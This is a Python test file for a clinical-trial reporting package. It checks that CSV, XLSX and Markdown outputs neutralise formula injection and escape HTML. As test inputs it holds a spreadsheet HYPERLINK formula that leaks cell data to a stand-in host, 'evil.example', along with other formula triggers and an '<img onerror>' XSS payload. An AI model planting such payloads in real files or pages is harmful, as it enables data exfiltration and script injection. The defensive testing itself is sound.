"""Issue 13, defect 4: untrusted text never becomes a spreadsheet formula or Markdown HTML."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from irtscope.report import write_table

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
TRIGGERS = [EVIL, "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]


def _csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _is_formula_like(cell: str) -> bool:
    """What a spreadsheet would evaluate: a trigger first, and not just a plain number."""
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_write_table_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {
            "title": [*TRIGGERS, "plain", "-3.5"],
            "value": [-3.5, 1.0, -2.0, 0.5, 4.0, 5.0, 6.0, -7.25],
            "n": [-1, 2, 3, 4, 5, 6, 7, 8],
        }
    )
    table["=col"] = "x"
    table.loc[6, "=col"] = "bell\x07and\x0bvt"  # XLSX cannot store these; must not crash
    files = write_table(table, tmp_path, "evil")

    cells = _csv_cells(files.csv)
    assert not [c for c in cells if _is_formula_like(c)]
    with files.csv.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["title", "value", "n", "'=col"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in TRIGGERS] + ["plain", "-3.5"]
    back = pd.read_csv(files.csv, usecols=["value", "n"])
    assert back["value"].tolist() == table["value"].tolist()  # numeric column untouched
    assert back["n"].tolist() == table["n"].tolist()

    sheet = load_workbook(files.xlsx).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"live formula in {cell.coordinate}: {cell.value!r}"
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert values[0][1] == -3.5 and isinstance(values[0][2], int)  # numbers stay numbers
    # the frame passed in is not modified
    assert table["title"].iloc[0] == EVIL


def test_markdown_table_escapes_html_and_pipes(tmp_path: Path) -> None:
    table = pd.DataFrame({"cohort <b>": ["<img src=x onerror=alert(1)>", "a|b", "x\ny"],
                          "v": [1.5, -2.0, 3.0]})
    text = write_table(table, tmp_path, "md").markdown.read_text(encoding="utf-8")
    assert "<img" not in text and "<b>" not in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text and "cohort &lt;b&gt;" in text
    assert "a\\|b" in text and "x y" in text
    lines = text.strip().splitlines()
    assert len(lines) == 5  # header, rule, three rows: no row split by | or a newline
    assert all(line.count("|") - line.count("\\|") == 3 for line in lines)
    assert "-2" in text  # numbers unchanged


def test_safe_cell_rules() -> None:
    from irtscope.report import safe_cell, safe_frame

    for value in TRIGGERS:
        assert safe_cell(value) == "'" + value
    for value in ("-3.5", "+2", "-1e-3", "plain", "", "'=already quoted", 3, -3.5, None):
        assert safe_cell(value) == value
    assert safe_cell("-") == "'-" and safe_cell("- item") == "'- item"
    frame = pd.DataFrame({"a": [-1.5, 2.0], "b": [EVIL, -4.0]})
    safe = safe_frame(frame)
    assert safe["a"].dtype == frame["a"].dtype and safe["b"].tolist() == ["'" + EVIL, -4.0]


def _evil_study(nct: str) -> dict:
    from test_screen import irt_study

    study = irt_study(nct)
    ident = study["protocolSection"]["identificationModule"]
    ident["briefTitle"] = EVIL + " Stereotactic Radiotherapy Plus Durvalumab in NSCLC"
    study["protocolSection"]["sponsorCollaboratorsModule"]["leadSponsor"]["name"] = (
        "@Evil University Hospital"
    )
    return study


@pytest.fixture()
def evil_input(tmp_path: Path) -> Path:
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "trials"))
    path = tmp_path / "evil.json"
    path.write_text(json.dumps([_evil_study("NCT09000001"), _evil_study("NCT09000002")]))
    return path


@pytest.mark.parametrize("command", ["screen", "classify"])
def test_trials_cli_tables_are_neutralised(
    evil_input: Path, tmp_path: Path, command: str
) -> None:
    from irtscope.cli import app

    out = tmp_path / f"{command}.csv"
    result = CliRunner().invoke(
        app, ["--quiet", "trials", command, "-i", str(evil_input), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    cells = _csv_cells(out)
    assert cells and not [c for c in cells if _is_formula_like(c)]
    if command == "classify":
        assert any(c.startswith("'@Evil University Hospital") for c in cells)


def test_registry_csv_round_trip_is_verbatim(evil_input: Path, tmp_path: Path) -> None:
    """The interchange CSV written for the importer stays verbatim, and reads back as is."""
    from irtscope.trials import studies_to_registry_csv
    from irtscope.trials._sources_csv import read_registry_csv

    studies = json.loads(evil_input.read_text())
    studies_to_registry_csv(studies, tmp_path / "export.csv")
    back = read_registry_csv(tmp_path / "export.csv")
    titles = [s["protocolSection"]["identificationModule"]["briefTitle"] for s in back]
    assert titles == [s["protocolSection"]["identificationModule"]["briefTitle"] for s in studies]
